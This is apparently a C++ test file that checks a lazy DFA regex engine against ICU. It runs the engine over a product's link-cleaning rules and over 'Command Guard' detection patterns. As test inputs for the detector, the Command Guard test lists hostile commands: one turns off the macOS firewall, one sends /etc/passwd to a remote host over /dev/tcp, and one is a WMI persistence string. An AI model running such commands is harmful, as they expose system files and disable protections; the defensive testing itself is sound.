// SPDX-License-Identifier: GPL-3.0-or-later
// Every shipped pattern, compiled as the product compiles it, through the lazy DFA and through ICU
// alone, over a sample of the benchmark corpus and generated hostile texts: wherever the DFA
// answers, it must give ICU's answer, and it must answer most of the time.
#include "core/foundation/LazyDfa.h"
#include "core/foundation/Regex.h"
#include "tests/support/Fixtures.h"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <cctype>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <random>
#include <set>
#include <string>
#include <vector>

namespace tessaril::testing {
namespace {

const std::string kBundle = TESSARIL_SOURCE_DIR "/resources/Tessaril_TessarilCore.bundle/";
// The rules engine's limit. Where ICU runs out of work the two may differ by design: counted apart.
constexpr std::int32_t kWorkLimit = 200;

struct Patterns {
    std::vector<std::string> links;  // host patterns, exceptions, raw rules, redirections
    std::vector<std::string> names;  // parameter rules, anchored as the rules engine anchors them
};

Patterns shippedLinkRules() {
    Patterns patterns;
    for (const char* file : {"data.min.json", "tessaril-supplementary.json"}) {
        const auto text = readFile(kBundle + file);
        if (text.empty()) return {};
        const auto json = nlohmann::json::parse(text);
        for (const auto& [name, provider] : json.at("providers").items()) {
            patterns.links.push_back(provider.at("urlPattern").get<std::string>());
            for (const char* key : {"exceptions", "rawRules", "redirections"}) {
                for (const auto& pattern : provider.value(key, nlohmann::json::array()))
                    patterns.links.push_back(pattern.get<std::string>());
            }
            for (const char* key : {"rules", "referralMarketing"}) {
                for (const auto& pattern : provider.value(key, nlohmann::json::array()))
                    patterns.names.push_back("^" + pattern.get<std::string>() + "$");
            }
        }
    }
    return patterns;
}

// Two variants of every `stride`th short text: about a third of the letters upper-cased, then one
// character dropped, doubled or replaced. Long texts are left alone: ICU's time on them grows with
// the square of their length for the many patterns that start with ".*".
void addHostileVariants(std::vector<std::string>& texts, std::mt19937& random, std::size_t stride = 1) {
    const std::size_t count = texts.size();
    for (std::size_t i = 0; i < count; i += stride) {
        if (texts[i].empty() || texts[i].size() > 300) continue;
        std::string mixed = texts[i];
        for (char& c : mixed) {
            if (random() % 3 == 0) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
        }
        std::string edited = mixed;
        const auto at = random() % edited.size();
        const auto edit = random() % 3;
        if (edit == 0) edited.erase(at, 1);
        if (edit == 1) edited.insert(at, 1, edited[at]);
        if (edit == 2) edited[at] = static_cast<char>(' ' + random() % 95);
        texts.push_back(std::move(mixed));
        texts.push_back(std::move(edited));
    }
}

struct Tally {
    std::size_t patterns = 0;
    std::size_t supported = 0;
    std::size_t comparisons = 0;
    std::size_t decided = 0;
    std::size_t icuGaveUp = 0;
    std::size_t foundWhereICUGaveUp = 0;  // the one difference allowed
    std::size_t disagreements = 0;
};

// One DFA per pattern over all texts, as a loaded rule keeps its Regex; the product's
// Regex::search (DFA, then ICU) is compared too.
Tally compareAll(const std::vector<std::string>& patterns, bool caseInsensitive, const std::vector<std::string>& texts,
                 const char* what) {
    Tally tally;
    for (const auto& pattern : patterns) {
        auto icu = Regex::compile(pattern, caseInsensitive);
        if (!icu) continue;  // the product drops it too
        ++tally.patterns;
        auto product = *icu;
        icu->setFastPathEnabled(false);
        for (auto* regex : {&*icu, &product})
            regex->setWorkLimit(kWorkLimit);
        const auto nfa = RegexNfa::parse(pattern, caseInsensitive);
        if (!nfa) continue;
        ++tally.supported;
        LazyDfa dfa(nfa);
        for (const auto& text : texts) {
            ++tally.comparisons;
            const bool expected = icu->search(text);
            const auto answer = dfa.search(text);
            const bool viaRegex = product.search(text);
            tally.decided += answer ? 1 : 0;
            if (icu->lastMatchHitLimit()) {
                ++tally.icuGaveUp;
                tally.foundWhereICUGaveUp += viaRegex != expected ? 1 : 0;
            } else if ((answer && *answer != expected) || viaRegex != expected) {
                ADD_FAILURE() << pattern << " on " << text << ": ICU " << expected << ", DFA "
                              << (answer ? std::to_string(*answer) : "undecided") << ", Regex " << viaRegex;
                if (++tally.disagreements >= 5) return tally;
            }
        }
    }
    std::cout << what << ": " << tally.supported << " of " << tally.patterns << " patterns supported; " << tally.decided
              << " of " << tally.comparisons << " searches decided by the DFA; ICU gave up on " << tally.icuGaveUp
              << " (the DFA found a match in " << tally.foundWhereICUGaveUp << ")\n";
    EXPECT_EQ(tally.disagreements, 0u);
    return tally;
}

void expectMostlyDecided(const Tally& tally) {
    EXPECT_GT(tally.supported * 10, tally.patterns * 9);
    EXPECT_GT(tally.decided * 10, tally.comparisons * 9);
}

// Every 100th line of the benchmark corpus, and the query parameter names found in them.
struct CorpusSample {
    std::vector<std::string> lines;
    std::vector<std::string> names;
};

const CorpusSample& corpusSample() {
    static const CorpusSample sample = [] {
        CorpusSample result;
        const char* shared = std::getenv("TESSARIL_SHARED_DIR");
        std::ifstream corpus(std::string(shared != nullptr ? shared : TESSARIL_SHARED_DIR) + "/bench/urls-200k.txt");
        std::set<std::string> names;
        std::string line;
        for (std::size_t number = 0; std::getline(corpus, line); ++number) {
            if (number % 100 != 0) continue;
            result.lines.push_back(line);
            for (auto at = line.find('?'); at != std::string::npos; at = line.find('&', at + 1))
                names.insert(line.substr(at + 1, line.find_first_of("=&", at + 1) - at - 1));
        }
        result.names.assign(names.begin(), names.end());
        return result;
    }();
    return sample;
}

class LazyDfaDifferentialTest : public ::testing::Test {
protected:
    void SetUp() override {
        if (rules_.links.empty()) GTEST_SKIP() << "shipped rule files not found";
        if (corpusSample().lines.empty()) GTEST_SKIP() << "benchmark corpus not found (set TESSARIL_SHARED_DIR)";
    }
    Patterns rules_ = shippedLinkRules();
    std::mt19937 random_{2024};
};

// On links as people copy them, ICU runs out of work only where nothing matches (".*u=..." on links
// of several kilobytes), so even there the product's answers stay the same.
TEST_F(LazyDfaDifferentialTest, LinkPatternsOnTheCorpus) {
    auto lines = corpusSample().lines;
    addHostileVariants(lines, random_, 4);
    const auto tally = compareAll(rules_.links, true, lines, "link patterns, corpus");
    expectMostlyDecided(tally);
    EXPECT_EQ(tally.foundWhereICUGaveUp, 0u);
    EXPECT_GT(tally.comparisons, 1000000u);
}

TEST_F(LazyDfaDifferentialTest, LinkPatternsOnLongRuns) {
    std::vector<std::string> runs;
    for (const std::size_t n : {5U, 60U, 300U}) {
        for (const std::string unit : {"a.", "co.", "a/", "&ref", "utm_source=x&", "%3F"}) {
            std::string run;
            for (std::size_t i = 0; i < n; ++i)
                run += unit;
            runs.push_back("https://" + run + "amazon.c");
            runs.push_back("HTTPS://www.google." + run + "/x/-/refs/switch?" + run);
            runs.push_back(run + "\303\251" + run);
        }
    }
    expectMostlyDecided(compareAll(rules_.links, true, runs, "link patterns, long runs"));
}

TEST_F(LazyDfaDifferentialTest, NamePatternsOnTheCorpusNames) {
    auto names = corpusSample().names;
    names.insert(names.end(), {"", "%3F", "%3Futm", "UTM_SOURCE_", "ref_", "p_rd_x"});
    addHostileVariants(names, random_, 2);
    const auto tally = compareAll(rules_.names, true, names, "name patterns");
    expectMostlyDecided(tally);
    EXPECT_EQ(tally.icuGaveUp, 0u);
    EXPECT_GT(tally.comparisons, 1000000u);
}

// Command Guard compiles its patterns case-sensitively, with their own inline flags. Few are in the
// subset (most use \b or look-around); those must agree on commands and prose.
TEST(LazyDfaCommandGuardDifferential, ShippedPatternsOnCommandTexts) {
    const auto text = readFile(kBundle + "command-guard-rules.json");
    if (text.empty()) GTEST_SKIP() << "shipped Command Guard rules not found";
    std::vector<std::string> patterns;
    const auto json = nlohmann::json::parse(text);
    for (const auto& rule : json.at("rules"))
        patterns.push_back(rule.at("pattern").get<std::string>());
    std::vector<std::string> commands = {
        "sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off",
        "defaults write com.apple.alf globalstate -int 0",
        "cat /etc/passwd > /dev/tcp/10.0.0.1/4444",
        "__EventFilter CommandLineEventConsumer",
    };
    // The Command Guard fuzzer's seeds that are command texts (first byte 0-2, then the text).
    for (const auto& entry : std::filesystem::directory_iterator(TESSARIL_SOURCE_DIR "/fuzz/corpus/command_guard")) {
        const auto seed = readFile(entry.path());
        if (!seed.empty() && static_cast<unsigned char>(seed[0]) <= 2) commands.push_back(seed.substr(1));
    }
    std::mt19937 random(11);
    addHostileVariants(commands, random);
    const auto tally = compareAll(patterns, false, commands, "Command Guard patterns");
    EXPECT_GE(tally.supported, 4u);
    EXPECT_GT(tally.decided * 10, tally.comparisons * 9);
}

}  // namespace
}  // namespace tessaril::testing
